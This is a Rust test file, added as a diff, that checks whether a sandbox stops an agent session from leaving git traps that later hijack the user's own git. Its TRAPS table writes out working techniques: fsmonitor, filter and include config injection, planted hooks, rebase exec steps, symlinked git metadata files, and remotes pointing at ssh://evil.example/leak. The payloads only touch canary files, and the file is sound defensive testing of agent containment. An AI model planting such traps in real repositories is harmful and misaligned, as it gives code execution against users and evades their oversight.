@@ -1,0 +1,257 @@
+//! What the user's own git runs, contacts or writes outside, because of what a session left in a git directory.
+//!
+//! Each trap is laid twice: without a sandbox, where it must fire (otherwise it would show nothing), and inside, where the user's git
+//! must do nothing of it afterwards.
+
+use std::fs;
+
+use crate::desk::{Desk, each_user, shown};
+
+struct Trap {
+    /// A finding's number, and what it is.
+    sentence: &'static str,
+    /// What the user has before, in a new repository with two commits.
+    before: &'static str,
+    /// What an agent does there.
+    attack: &'static str,
+    /// What the user does there afterwards.
+    user: &'static str,
+}
+
+/// `CANARY` is a path outside of the project. The trap fires if it exists.
+const TRAPS: &[Trap] = &[
+    Trap {
+        sentence: "a1: a directory called worktrees in a bare repository",
+        before: "",
+        attack: "git init -q --bare foo.git; git --git-dir=foo.git config extensions.worktreeConfig true
+            mkdir -p foo.git/a/worktrees/x; echo ref: refs/heads/main > foo.git/a/worktrees/x/HEAD
+            echo ../../.. > foo.git/a/worktrees/x/commondir; cp .git/index foo.git/a/worktrees/x/index
+            printf '[core]\\n\\tbare = false\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > foo.git/a/worktrees/x/config.worktree
+            mkdir sub; echo \"gitdir: $PWD/foo.git/a/worktrees/x\" > sub/.git
+            git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub",
+        user: "git status; cd sub && git status",
+    },
+    Trap {
+        sentence: "a1: the stealthy form, below the git directory itself",
+        before: "",
+        attack: "git config extensions.worktreeConfig true; mkdir -p .git/foo.git/worktrees/x .git/worktrees/x
+            for at in .git/foo.git/worktrees/x .git/worktrees/x; do
+                echo ref: refs/heads/main > $at/HEAD; echo ../.. > $at/commondir; cp .git/index $at/index
+                printf '[core]\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > $at/config.worktree
+            done
+            mkdir sub; echo \"gitdir: $PWD/.git/worktrees/x\" > sub/.git
+            git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub",
+        user: "git status; cd sub && git status",
+    },
+    Trap {
+        sentence: "a2: a git directory in the home of the session",
+        before: "",
+        attack: "cd ~; git init -q g; git -C g config core.fsmonitor 'touch CANARY; false'; cd - > /dev/null
+            home=$(awk -v home=$HOME '$5 == home { print $4 }' /proc/self/mountinfo | tail -1)
+            mkdir sub; echo \"gitdir: ${home:-$HOME}/g/.git\" > sub/.git
+            git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub",
+        user: "git status; cd sub && git status",
+    },
+    Trap {
+        sentence: "a5: an object that is missing is fetched from an address",
+        before: "",
+        attack: "git config remote.evil.url ssh://evil.example/leak; git config remote.evil.promisor true
+            git config extensions.partialClone evil; git config core.repositoryformatversion 1
+            git update-index --add --cacheinfo 100644,1234567812345678123456781234567812345678,missing",
+        user: "export GIT_SSH_COMMAND='touch CANARY; false'; git status; git diff; git diff --cached; git checkout .",
+    },
+    Trap {
+        sentence: "a5: a program of a remote serves what is missing",
+        before: "",
+        attack: "git config remote.evil.url .; git config remote.evil.promisor true
+            git config remote.evil.uploadpack 'touch CANARY; git-upload-pack'
+            git config extensions.partialClone evil; git config core.repositoryformatversion 1
+            git update-index --add --cacheinfo 100644,1234567812345678123456781234567812345678,missing",
+        user: "git status; git diff; git diff --cached; git checkout .",
+    },
+    Trap {
+        sentence: "a5: where a branch is pushed to is an address",
+        before: "",
+        attack: "git config branch.main.pushRemote ssh://evil.example/leak; git config push.default current
+            git config branch.main.remote ssh://evil.example/leak; git config branch.main.merge refs/heads/main",
+        user: "export GIT_SSH_COMMAND='touch CANARY; false'; git push; git fetch; git pull",
+    },
+    Trap {
+        sentence: "a9: the work tree is somewhere else",
+        before: "mkdir CANARY.d",
+        attack: "git config core.worktree CANARY.d
+            git update-index --add --cacheinfo 100644,$(echo x | git hash-object -w --stdin),planted",
+        user: "git checkout -f .; test ! -e CANARY.d/planted || touch CANARY",
+    },
+    Trap {
+        sentence: "a10: a step of a rebase runs a command",
+        before: "",
+        attack: "GIT_SEQUENCE_EDITOR='sed -i s/^pick/edit/' git rebase -i HEAD~1
+            echo 'exec touch CANARY' >> .git/rebase-merge/git-rebase-todo",
+        user: "sleep 1; GIT_EDITOR=true git rebase --continue",
+    },
+    Trap {
+        sentence: "a10: a step of a rebase runs a command, moved into place",
+        before: "",
+        attack: "GIT_SEQUENCE_EDITOR='sed -i s/^pick/edit/' git rebase -i HEAD~1
+            echo 'exec touch CANARY' > todo; mv todo .git/rebase-merge/git-rebase-todo",
+        user: "GIT_EDITOR=true git rebase --continue",
+    },
+    Trap {
+        sentence: "j1: the message of a commit goes into the settings",
+        before: "",
+        attack: "rm -f .git/COMMIT_EDITMSG; ln -s config .git/COMMIT_EDITMSG
+            printf '[core]\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > .git/MERGE_MSG",
+        user: "GIT_EDITOR=true git commit --allow-empty; git status",
+    },
+    Trap {
+        sentence: "j1: the message of a commit goes to a file of the user",
+        before: "",
+        attack: "rm -f .git/COMMIT_EDITMSG; ln -s CANARY .git/COMMIT_EDITMSG",
+        user: "git commit --allow-empty -m words",
+    },
+    Trap {
+        sentence: "j1: a link that is moved in",
+        before: "",
+        attack: "ln -s CANARY link; mv -f link .git/COMMIT_EDITMSG; mkdir d; ln -s CANARY d/HEAD; mv d .git/logs2; mv .git/logs .git/logs3
+            mv .git/logs2 .git/logs",
+        user: "git commit --allow-empty -m words",
+    },
+    Trap {
+        sentence: "j1: the log of HEAD",
+        before: "",
+        attack: "rm -f .git/logs/HEAD; ln -s CANARY .git/logs/HEAD",
+        user: "git commit --allow-empty -m words",
+    },
+    Trap {
+        sentence: "j1: what was fetched",
+        before: "",
+        attack: "rm -f .git/FETCH_HEAD; ln -s CANARY .git/FETCH_HEAD",
+        user: "git fetch .",
+    },
+    Trap {
+        sentence: "j2: a directory that git empties is a link",
+        before: "mkdir CANARY.d; touch CANARY.d/precious",
+        attack: "ln -s CANARY.d .git/sequencer",
+        user: "git cherry-pick --quit; git revert --quit; git reset -q --hard; test -e CANARY.d/precious || touch CANARY",
+    },
+    Trap {
+        sentence: "j3: the shell's prompt expands the number of a step",
+        before: "",
+        attack: "mkdir -p .git/rebase-merge; echo refs/heads/main > .git/rebase-merge/head-name; echo 2 > .git/rebase-merge/end
+            echo '$(touch CANARY)' > .git/rebase-merge/msgnum
+            echo '$(touch CANARY)' > number; mv number .git/rebase-merge/msgnum",
+        // What __git_ps1 does where it sets PS1 itself.
+        user: "sleep 1; read -r step < .git/rebase-merge/msgnum; read -r total < .git/rebase-merge/end
+            PS1=\"(main|REBASE $step/$total) \"; echo \"${PS1@P}\"",
+    },
+    Trap {
+        sentence: "j4: a submodule of a linked work tree",
+        before: "git init -q other; git -C other commit -q --allow-empty -m x
+            git -c protocol.file.allow=always submodule --quiet add ./other module; git commit -qm module
+            git worktree add -q linked -b linked; cd linked; git -c protocol.file.allow=always submodule --quiet update --init",
+        attack: "git config -f .git/worktrees/linked/modules/module/config core.fsmonitor 'touch CANARY; false'
+            printf '#!/bin/sh\\ntouch CANARY\\n' > hook; chmod +x hook; mkdir -p .git/worktrees/linked/modules/module/hooks
+            mv hook .git/worktrees/linked/modules/module/hooks/post-checkout",
+        user: "cd linked; git status; git -C module status; git -C module checkout -q -b new",
+    },
+    Trap {
+        sentence: "j5: a strategy that is a path",
+        before: "git switch -qc side; echo side > file; git commit -qam side; git switch -q main; echo main > file; git commit -qam main",
+        attack: "git cherry-pick side; mkdir -p git-merge-x .git/sequencer; printf '#!/bin/sh\\ntouch CANARY\\n' > e.sh; chmod +x e.sh
+            printf 'pick %s side\\npick %s side\\n' $(git rev-parse --short side) $(git rev-parse --short side) > .git/sequencer/todo
+            git rev-parse HEAD > .git/sequencer/head; printf '[options]\\n\\tstrategy = x/../e.sh\\n' > .git/sequencer/opts
+            printf '[options]\\n\\tstrategy = x/../e.sh\\n' > opts; mv opts .git/sequencer/opts",
+        user: "sleep 1; git add file; export GIT_EDITOR=true; git cherry-pick --continue; git cherry-pick --skip",
+    },
+    Trap {
+        sentence: "hooks that come with a directory",
+        before: "",
+        attack: "mkdir -p new/.git; cp -r .git new/dir; rm -rf new/.git; mkdir -p new/dir/hooks
+            printf '#!/bin/sh\\ntouch CANARY\\n' > new/dir/hooks/post-checkout; chmod +x new/dir/hooks/post-checkout; mv new/dir new/.git",
+        user: "cd new && git checkout -f -q -b other",
+    },
+    Trap {
+        sentence: "a second name of the settings",
+        before: "",
+        attack: "rm -f .git/COMMIT_EDITMSG; ln .git/config .git/COMMIT_EDITMSG
+            printf '[core]\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > .git/MERGE_MSG",
+        user: "GIT_EDITOR=true git commit --allow-empty; git status",
+    },
+    Trap {
+        sentence: "attributes and filters of one's own",
+        before: "",
+        attack: "git config filter.evil.clean 'touch CANARY; cat'; echo '* filter=evil' > .gitattributes; touch file",
+        user: "git add -A; git status; git diff",
+    },
+    Trap {
+        sentence: "settings that are included",
+        before: "",
+        attack: "printf '[core]\\n\\tfsmonitor = \"touch CANARY; false\"\\n' > more; git config include.path ../more
+            git config includeIf.gitdir:/.path ../more",
+        user: "git status",
+    },
+    Trap {
+        sentence: "another directory of objects, and its address",
+        before: "",
+        attack: "mkdir -p o/info o/pack; echo CANARY.d > .git/objects/info/alternates; git config core.alternateRefsCommand 'touch CANARY; false'",
+        user: "mkdir -p CANARY.d; git fetch -q .; git push -q . HEAD:refs/heads/pushed; git gc -q",
+    },
+];
+
+fn script(part: &str, desk: &Desk, number: usize, name: &str) -> String {
+    let canary = desk.home(&format!("canary-{name}-{number}"));
+    let part = part.replace("CANARY", canary.to_str().unwrap());
+    let place = format!("{name}{number}");
+    format!("(cd {place} && {{ {part}\n}}) >> {place}.said 2>&1 < /dev/null\n")
+}
+
+fn repository(trap: &Trap, desk: &Desk, number: usize, name: &str) {
+    let place = format!("{name}{number}");
+    desk.prepare(&format!(
+        "mkdir {place} && cd {place} && git init -q && echo one > file && git add file && git commit -qm first && \
+         echo two > file && git commit -qam second"
+    ));
+    let before = script(trap.before, desk, number, name);
+    desk.prepare(&if trap.before.is_empty() { String::from("true") } else { before });
+}
+
+fn fired(desk: &Desk, number: usize, name: &str) -> bool {
+    fs::symlink_metadata(desk.home(&format!("canary-{name}-{number}"))).is_ok()
+}
+
+#[test]
+fn what_git_does_outside_with_what_a_session_left() {
+    each_user(|desk| {
+        let mut without = String::from("set +e\n");
+        let mut inside = without.clone();
+        for (number, trap) in TRAPS.iter().enumerate() {
+            for (name, attacks) in [("without", Some(&mut without)), ("inside", Some(&mut inside))] {
+                repository(trap, &desk, number, name);
+                attacks.unwrap().push_str(&script(trap.attack, &desk, number, name));
+            }
+        }
+        desk.hand_over();
+        desk.prepare(&(without + "true"));
+        let told = desk.inside(&(inside + "true"));
+        assert!(told.status.success(), "{}", shown(&told));
+        for (number, trap) in TRAPS.iter().enumerate() {
+            assert!(!fired(&desk, number, "inside"), "{} fires inside", trap.sentence);
+            for name in ["without", "inside"] {
+                desk.prepare(&format!("set +e; {}true", script(trap.user, &desk, number, name)));
+            }
+        }
+        let said =
+            |number: usize| fs::read_to_string(desk.project(&format!("without{number}.said"))).unwrap_or_default();
+        let mut wrong = String::new();
+        for (number, trap) in TRAPS.iter().enumerate() {
+            if !fired(&desk, number, "without") {
+                wrong += &format!("shows nothing: {}\n{}\n", trap.sentence, said(number));
+            }
+            if fired(&desk, number, "inside") {
+                wrong += &format!("FIRES: {}\n", trap.sentence);
+            }
+        }
+        assert!(wrong.is_empty(), "{wrong}{}", shown(&told));
+    });
+}
